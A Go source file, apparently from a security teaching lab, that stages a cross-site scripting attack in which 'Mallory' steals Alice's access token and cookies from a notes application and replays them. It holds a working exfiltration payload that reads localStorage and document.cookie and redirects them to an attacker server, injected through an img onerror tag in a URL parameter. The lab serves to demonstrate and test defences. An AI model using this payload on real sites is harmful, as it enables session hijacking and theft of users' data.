package xss

import (
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"strings"

	"quartet.example/demo/labs/chrome"
	"quartet.example/demo/labs/lab"
)

var errNothingSent = errors.New("the script sent nothing to the attacker")

// theft is the script of the attacker. It sends what scripts can read to the attacker, by leaving the page:
// no content security policy forbids that.
const theft = `location.href = %q + new URLSearchParams({storage: localStorage.getItem("access_token") || "", cookies: document.cookie})`

// takeToken runs a script in the page of the client. What it takes is used after the victim has left.
func takeToken(s *lab.Scene) error {
	b, err := s.Chrome()
	if err != nil {
		return err
	}
	if err := signInAtClient(s, b); err != nil {
		return err
	}
	if err := runTheft(s, b); err != nil {
		return err
	}
	took := func() bool { return len(s.Evil.Visits()) > 0 }
	if !s.AwaitRefusalOr(took) {
		return errNothingSent
	}
	if err := b.Close(); err != nil {
		return err
	}
	s.Step("Alice", "closes the browser, and writes another note the next day with her telephone")
	if err := s.Renew(); err != nil {
		return err
	}
	return useLoot(s)
}

func signInAtClient(s *lab.Scene, b *chrome.Browser) error {
	s.Step("Alice", "signs in at the notes application")
	if s.Target.Reference {
		return s.SignInWith(b, s.Client+"/login", `form[action="/logout"]`)
	}
	return s.SignInWith(b, s.Client+"/app", "#notes")
}

// runTheft runs the script. The careless page has a hole for it. The reference has none that we know of, so
// the script is put in with the developer tools, as if there were one.
func runTheft(s *lab.Scene, b *chrome.Browser) error {
	script := fmt.Sprintf(theft, s.Evil.URL+"/take?")
	if s.Target.Reference {
		s.Step("The lab", "puts Mallory's script into the page with the developer tools, as if the page had a hole")
		_, err := b.Run(script + `; "left"`)
		return err
	}
	s.Step("Mallory", "sends Alice a link to the application, with a script in the address")
	image := `<img src="data:," onerror='` + script + `'>`
	return b.Open(s.Client + "/app?" + url.Values{"greeting": {image}}.Encode())
}

// useLoot uses what the script has sent, from the attacker's own machine.
func useLoot(s *lab.Scene) error {
	if token := s.Evil.Received("storage"); token != "" {
		s.Step("Mallory", "reads the notes with the access token that was in local storage, from her own computer")
		_, err := s.ReadNotes(token)
		return err
	}
	s.Step("Mallory", "has no token, and tries the application with the cookies that the script could read: "+shown(s.Evil.Received("cookies")))
	r, err := http.NewRequestWithContext(s.Context(), http.MethodGet, s.Client+"/api/notes", http.NoBody)
	if err != nil {
		return err
	}
	r.Header.Set("Cookie", s.Evil.Received("cookies"))
	r.Header.Set("X-Requested-With", "quartet")
	resp, err := s.Program.Do(r)
	if err != nil {
		return err
	}
	defer func() { _ = resp.Body.Close() }()
	return (lab.Response{Status: resp.StatusCode}).Refused()
}

func shown(cookies string) string {
	if strings.TrimSpace(cookies) == "" {
		return "none"
	}
	return "some"
}
